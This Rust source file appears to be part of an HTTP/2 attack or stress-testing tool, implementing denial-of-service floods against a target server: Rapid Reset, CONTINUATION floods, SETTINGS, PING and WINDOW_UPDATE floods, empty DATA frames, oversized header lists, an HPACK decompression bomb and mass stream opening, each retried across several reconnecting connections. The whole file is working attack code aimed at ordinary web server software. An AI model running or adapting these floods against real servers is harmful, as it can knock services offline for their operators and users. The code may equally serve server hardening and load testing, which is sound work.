//! Floods of HTTP/2 frames. Four connections each; a connection that the server closes is begun
//! again after a pause.

use std::time::Duration;

use tokio::io::AsyncWriteExt;
use tokio::time::interval;

use crate::context::Context;
use crate::frame::{
    self, CANCEL, CONTINUATION, DATA, END_HEADERS, HEADERS, NEWEST, PING, RST_STREAM, SETTINGS,
    WINDOW_UPDATE, frame,
};

const CONNECTIONS: u32 = 4;
/// Length of a frame that every server accepts.
const LARGEST: usize = 16_384;
/// Streams of one connection in the attack with many streams.
const STREAMS: u32 = 4_000;
/// Interval between groups of streams: 10,000 streams a second on all connections.
const STREAMS_PACE: Duration = Duration::from_millis(50);
const STREAMS_AT_ONCE: u32 = 20;

fn block(context: &Context) -> Vec<u8> {
    frame::request(&context.target.path, context.target.door.is_grpc())
}

/// The number of a client's stream.
fn stream(number: u32) -> u32 {
    2 * number + 1
}

pub(super) async fn rapid_reset(context: Context) -> anyhow::Result<()> {
    let block = block(&context);
    let one = move |context: Context, _| {
        let block = block.clone();
        async move {
            let next = |number| {
                let headers = frame(HEADERS, END_HEADERS, stream(number), &block);
                [headers, frame(RST_STREAM, 0, stream(number), &CANCEL)].concat()
            };
            context.flood(2_500, true, next).await
        }
    };
    context.again(CONNECTIONS, one).await;
    Ok(())
}

pub(super) async fn continuation(context: Context) -> anyhow::Result<()> {
    let block = block(&context);
    let one = move |context: Context, _| {
        let block = block.clone();
        async move {
            let next = |number| match number {
                0 => frame(HEADERS, 0, 1, &block),
                _ => frame(CONTINUATION, 0, 1, &frame::literal("a", b"b")),
            };
            context.flood(5_000, true, next).await
        }
    };
    context.again(CONNECTIONS, one).await;
    Ok(())
}

async fn repeat(context: Context, reads: bool, kind: u8, stream: u32, payload: &'static [u8]) {
    let one = move |context: Context, _| async move {
        context.flood(5_000, reads, |_| frame(kind, 0, stream, payload)).await
    };
    context.again(CONNECTIONS, one).await;
}

pub(super) async fn settings(context: Context) -> anyhow::Result<()> {
    // The window of streams, 65,535.
    repeat(context, false, SETTINGS, 0, &[0, 4, 0, 0, 0xff, 0xff]).await;
    Ok(())
}

pub(super) async fn ping(context: Context) -> anyhow::Result<()> {
    repeat(context, false, PING, 0, b"flooding").await;
    Ok(())
}

pub(super) async fn window_update(context: Context) -> anyhow::Result<()> {
    repeat(context, true, WINDOW_UPDATE, 0, &[0, 0, 0, 1]).await;
    Ok(())
}

pub(super) async fn empty_data(context: Context) -> anyhow::Result<()> {
    let block = block(&context);
    let one = move |context: Context, _| {
        let block = block.clone();
        async move {
            let next = |number| match number {
                0 => frame(HEADERS, END_HEADERS, 1, &block),
                _ => frame(DATA, 0, 1, &[]),
            };
            context.flood(5_000, true, next).await
        }
    };
    context.again(CONNECTIONS, one).await;
    Ok(())
}

/// 64 KiB of small fields in four frames.
pub(super) async fn header_list(context: Context) -> anyhow::Result<()> {
    let block = block(&context);
    let one = move |context: Context, _| {
        let block = block.clone();
        async move {
            let fields = frame::literal("a-name", b"a-value").repeat(1_000);
            let next = |number: u32| {
                let id = stream(number);
                let first = frame(HEADERS, 0, id, &block);
                let more = frame(CONTINUATION, 0, id, &fields).repeat(3);
                [first, more, frame(CONTINUATION, END_HEADERS, id, &fields)].concat()
            };
            context.flood(100, true, next).await
        }
    };
    context.again(CONNECTIONS, one).await;
    Ok(())
}

/// One field of 4,000 bytes in the table, and a reference to it in each byte of a frame.
pub(super) async fn hpack_bomb(context: Context) -> anyhow::Result<()> {
    let block = block(&context);
    let one = move |context: Context, _| {
        let block = block.clone();
        async move {
            let field = frame::indexed_literal("a", &[b'b'; 4_000]);
            let room = LARGEST - block.len() - field.len();
            let bomb = [block, field, vec![NEWEST; room]].concat();
            let next = |number| frame(HEADERS, END_HEADERS, stream(number), &bomb);
            context.flood(100, true, next).await
        }
    };
    context.again(CONNECTIONS, one).await;
    Ok(())
}

pub(super) async fn streams(context: Context) -> anyhow::Result<()> {
    let block = block(&context);
    let one = move |context: Context, _| {
        let block = block.clone();
        async move {
            let stream = context.open().await?;
            let (mut from, mut to) = tokio::io::split(stream);
            let send = async {
                to.write_all(&frame::opening(None)).await?;
                let mut pace = interval(STREAMS_PACE);
                for number in 0..STREAMS {
                    if number.is_multiple_of(STREAMS_AT_ONCE) {
                        to.flush().await?;
                        pace.tick().await;
                    }
                    let id = self::stream(number);
                    to.write_all(&frame(HEADERS, END_HEADERS, id, &block)).await?;
                    context.got.add("streams opened");
                }
                to.flush().await
            };
            let read = async {
                loop {
                    context.receive(&mut from).await?;
                }
            };
            let (sent, read) = tokio::join!(send, read);
            sent.and(read)
        }
    };
    context.many(25, 20, one).await;
    Ok(())
}
